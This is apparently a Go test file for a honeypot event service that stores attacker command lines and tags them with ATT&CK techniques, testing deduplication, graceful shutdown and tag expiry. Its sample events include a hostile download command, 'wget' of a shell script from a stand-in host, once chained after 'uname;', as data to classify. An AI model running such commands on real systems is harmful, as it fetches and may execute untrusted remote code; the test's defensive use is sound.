package main

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptrace"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/decnet/ttpstore/ttp"
	"github.com/decnet/ttpstore/ttptest"
)

// client sends requests to a running service.
type client struct {
	t   *testing.T
	url string
}

// start runs the service until stop is called or the test ends. The channel is closed once it accepts no more requests.
func start(t *testing.T, db string, log io.Writer) (c client, stop func(), stopping <-chan struct{}) {
	t.Helper()
	tcp, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	closed := make(chan struct{})
	listener := closingListener{tcp, sync.OnceFunc(func() { close(closed) })}
	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan error, 1)
	go func() { done <- run(ctx, listener, db, slog.New(slog.NewTextHandler(log, nil))) }()
	stop = sync.OnceFunc(func() {
		cancel()
		if err := <-done; err != nil {
			t.Error(err)
		}
	})
	t.Cleanup(stop)
	return client{t, "http://" + tcp.Addr().String()}, stop, closed
}

// closingListener calls closing when it is closed.
type closingListener struct {
	net.Listener
	closing func()
}

func (l closingListener) Close() error { l.closing(); return l.Listener.Close() }

// want sends a request and checks the answer. Other goroutines may call it.
func (c client) want(status int, want, method, path, body string) {
	c.t.Helper()
	request, err := http.NewRequestWithContext(c.t.Context(), method, c.url+path, strings.NewReader(body))
	if err != nil {
		c.t.Error(err)
		return
	}
	c.wantAnswer(status, want, request)
}

func (c client) wantAnswer(status int, want string, request *http.Request) {
	c.t.Helper()
	response, err := http.DefaultClient.Do(request)
	if err != nil {
		c.t.Error(err)
		return
	}
	defer func() { _ = response.Body.Close() }()
	text, err := io.ReadAll(response.Body)
	if err != nil || response.StatusCode != status || !strings.Contains(string(text), want) {
		c.t.Errorf("%s %s: got %d %s, %v; want %d %s", request.Method, request.URL, response.StatusCode, text, err, status, want)
	}
}

func TestService(t *testing.T) {
	db := "sqlite://" + filepath.Join(t.TempDir(), "service.db")
	var log bytes.Buffer
	operations.Init()
	failures.Init()
	c, stop, _ := start(t, db, &log)
	c.want(200, `"ready"`, "GET", "/ready", "")
	download := `{"id":"e1","ip":"192.0.2.7","session":"s1","line":"wget http://203.0.113.9/x.sh"}`
	var wg sync.WaitGroup
	for range 4 { // the event is delivered several times
		wg.Go(func() { c.want(200, `"outcomes":["`, "POST", "/events", download) })
	}
	wg.Wait()
	c.want(200, `"outcomes":["duplicate"],"inserted":0`, "POST", "/events", download)
	c.want(200, `"outcomes":["duplicate"],"inserted":0`, "POST", "/events", strings.Replace(download, "wget", "uname;wget", 1))
	c.want(200, `"outcomes":["inserted"],"inserted":1,"techniques":["T1082"]`, "POST", "/events",
		`{"id":"e2","ip":"192.0.2.8","session":"s2","line":"uname -a"}`)
	c.want(400, "want an event such as", "POST", "/events", `{"id":"e3"}`)
	c.want(400, `{"error":"invalid tag","problems":[{"row":0,"field":"session_id","reason":"must not begin or end with a space"}]}`,
		"POST", "/events", `{"id":"e4","ip":"192.0.2.7","session":" ","line":"ls"}`)

	c.want(200, `"technique_id":"T1105"`, "GET", "/rollup?scope=session+s1&since=1d", "")
	c.want(200, `[]`, "GET", "/rollup?scope=fleet&tactic=TA0040", "")
	c.want(400, `"field":"tactics"`, "GET", "/rollup?scope=fleet&tactics=TA0040", "")
	c.want(200, `"ttp_failures": {"insert tags: invalid_tag": 1, "run transaction: invalid_tag": 1}`, "GET", "/debug/vars", "")
	c.want(200, `"insert tags": 8, "migrate": 1, "rollup": 2, "run transaction": 9, "upsert attackers": 8}`, "GET", "/debug/vars", "")
	stop()
	if n := strings.Count(log.String(), "msg=tagged"); n != 2 || strings.Contains(log.String(), "192.0.2.7") {
		t.Errorf("%d events are logged as tagged:\n%s", n, log.String())
	}

	store, err := ttp.Open(t.Context(), db)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = store.Close() }()
	if n, err := store.CountTags(t.Context(), ttp.Fleet(), ttp.Filter{}); err != nil || n != 2 {
		t.Errorf("%d tags are stored, %v", n, err)
	}
}

// A request that the service is reading when it is told to stop is stored and answered.
func TestRunningRequestsAreAnsweredBeforeTheEnd(t *testing.T) {
	c, stop, stopping := start(t, "sqlite://"+filepath.Join(t.TempDir(), "service.db"), io.Discard)
	c.want(200, `"ready"`, "GET", "/ready", "")
	reading := make(chan struct{})
	ctx := httptrace.WithClientTrace(t.Context(), &httptrace.ClientTrace{Got100Continue: func() { close(reading) }})
	body, rest := io.Pipe()
	request, err := http.NewRequestWithContext(ctx, "POST", c.url+"/events", body)
	if err != nil {
		t.Fatal(err)
	}
	request.Header.Set("Expect", "100-continue") // which the server answers when it reads the body
	answered := make(chan struct{})
	go func() { defer close(answered); c.wantAnswer(200, `"outcomes":["inserted"]`, request) }()
	select {
	case <-reading:
	case <-answered: // with an error
	}
	go stop()
	<-stopping
	_, err = io.WriteString(rest, `{"id":"e1","ip":"192.0.2.7","session":"s1","line":"uname -a"}`)
	if err := errors.Join(err, rest.Close()); err != nil {
		t.Error(err)
	}
	<-answered
}

// An event whose tags are refused is not stored.
func TestEventAndTagsAreStoredTogether(t *testing.T) {
	s := &service{ttptest.New(t), slog.New(slog.DiscardHandler)}
	if err := s.migrate(t.Context()); err != nil {
		t.Fatal(err)
	}
	post := func(session string) error {
		body, _ := json.Marshal(event{ID: "e1", Session: session, Line: "ls"})
		body = bytes.Replace(body, []byte(`"ip":""`), []byte(`"ip":"192.0.2.7"`), 1)
		request, err := http.NewRequestWithContext(t.Context(), "POST", "/events", bytes.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		_, err = s.postEvent(request)
		return err
	}
	if err := post(" "); err == nil {
		t.Fatal("a bad session was stored")
	}
	if err := post("s1"); err != nil { // the id is free
		t.Fatal(err)
	}
}

// Of concurrent deliveries of an event, the later ones insert it after the first one has.
func TestARepeatedEventIsStoredOnce(t *testing.T) {
	s := &service{ttptest.New(t), slog.New(slog.DiscardHandler)}
	if err := s.migrate(t.Context()); err != nil {
		t.Fatal(err)
	}
	var stored []string
	err := s.store.Tx(t.Context(), func(ctx context.Context, tx *sql.Tx, _ *ttp.Store) error {
		for _, e := range []event{{ID: "e1", Line: "ls"}, {ID: "e1", Line: "uname"}, {ID: "E1"}} {
			if _, err := s.storeEvent(ctx, tx, e); err != nil {
				return err
			}
		}
		rows, err := tx.QueryContext(ctx, "SELECT id, body FROM event ORDER BY id")
		if err != nil {
			return err
		}
		defer func() { _ = rows.Close() }()
		for rows.Next() {
			var id, body string
			if err := rows.Scan(&id, &body); err != nil {
				return err
			}
			stored = append(stored, id, body)
		}
		return rows.Err()
	})
	want := []string{
		"E1", `{"id":"E1","ip":"","session":"","line":""}`,
		"e1", `{"id":"e1","ip":"","session":"","line":"ls"}`,
	}
	if err != nil || !slices.Equal(stored, want) {
		t.Errorf("got %q, %v; want %q", stored, err, want)
	}
}

func TestOldTagsExpire(t *testing.T) {
	s := &service{ttptest.New(t), slog.New(slog.DiscardHandler)}
	tags := ttptest.Tags(1, 100)
	for i := range tags {
		tags[i].ObservedAt = time.Now().Add(-keepTags - time.Hour)
	}
	if _, err := s.store.InsertTags(t.Context(), tags); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	go func() {
		for n := int64(1); n > 0; time.Sleep(time.Millisecond) {
			n, _ = s.store.CountTags(t.Context(), ttp.Fleet(), ttp.Filter{})
		}
		cancel()
	}()
	s.expire(ctx, time.Hour)
}
